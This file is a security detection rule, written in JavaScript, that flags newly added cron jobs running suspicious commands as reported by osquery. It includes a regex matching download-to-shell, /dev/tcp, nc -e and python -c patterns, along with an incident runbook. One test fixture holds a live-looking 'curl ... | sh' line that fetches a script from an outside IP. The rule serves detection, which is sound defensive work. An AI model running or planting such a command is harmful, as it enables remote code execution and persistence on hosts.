import { defineRule } from 'caracal/sdk'
import { osqueryColumn } from '../helpers/network.js'

/** Command shapes of malicious cron jobs: download-and-execute, reverse shells, hidden paths. */
const SUSPICIOUS_COMMAND =
  /(curl|wget)[^|;]*\|\s*(ba)?sh|base64\s+(-d|--decode)|\/dev\/tcp\/|\b(nc|ncat)\b.*\s-e\s|\/(tmp|dev\/shm|var\/tmp)\/|python[\d.]*\s+-c/

/** osquery `crontab`: a new cron job running a suspicious command. */
export default defineRule({
  id: 'Osquery.SuspiciousCronJob',
  name: 'osquery Suspicious Cron Job Added',
  logTypes: ['Osquery.Differential'],
  severity: 'HIGH',
  description:
    'A scheduled osquery query over crontab reported a new cron entry whose command downloads ' +
    'and pipes to a shell, decodes base64, opens /dev/tcp, runs nc -e or python -c, or ' +
    'executes from /tmp or /dev/shm – the persistence of cryptominers and Linux botnets.',
  reference: 'https://osquery.io/schema/current/#crontab',
  runbook:
    'Open the cron file (path column) on the host and fetch the referenced script or URL into ' +
    'a sandbox. Remove the entry, kill the processes it started, and look for the initial ' +
    'access (exposed services, weak SSH passwords). Check other hosts for the same entry.',
  tags: ['osquery', 'Persistence', 'Cron'],
  reports: { 'MITRE ATT&CK': ['TA0003:T1053.003', 'TA0002:T1059.004'] },
  dedupPeriodMinutes: 1440,

  rule(event) {
    return (
      event.action === 'added' &&
      /crontab/.test(event.name) &&
      SUSPICIOUS_COMMAND.test(osqueryColumn(event.columns, 'command'))
    )
  },

  title(event) {
    return `Suspicious cron job on ${event.hostIdentifier ?? 'unknown'}: ${osqueryColumn(event.columns, 'command')}`
  },

  dedup(event) {
    return `osq-cron:${event.hostIdentifier ?? ''}:${osqueryColumn(event.columns, 'command')}`
  },

  alertContext(event) {
    return {
      host: event.hostIdentifier ?? null,
      query: event.name,
      command: osqueryColumn(event.columns, 'command'),
      path: osqueryColumn(event.columns, 'path'),
      minute: osqueryColumn(event.columns, 'minute'),
      hour: osqueryColumn(event.columns, 'hour'),
    }
  },

  tests: [
    {
      name: 'curl | sh every minute',
      expect: true,
      event: {
        name: 'pack_incident-response_crontab',
        hostIdentifier: 'web-03.example.com',
        calendarTime: '2024-06-12 16:00:00.000',
        unixTime: '2024-06-12 16:00:00.000',
        action: 'added',
        columns: {
          command: 'curl -fsSL http://194.38.23.2/ldr.sh | sh',
          day_of_month: '*',
          day_of_week: '*',
          event: '',
          hour: '*',
          minute: '*',
          month: '*',
          path: '/var/spool/cron/crontabs/www-data',
        },
        p_log_type: 'Osquery.Differential',
      },
    },
    {
      name: 'logrotate job',
      expect: false,
      event: {
        name: 'pack_incident-response_crontab',
        hostIdentifier: 'web-03.example.com',
        action: 'added',
        columns: {
          command: 'test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf',
          hour: '6',
          minute: '25',
          path: '/etc/crontab',
        },
        p_log_type: 'Osquery.Differential',
      },
    },
  ],
})
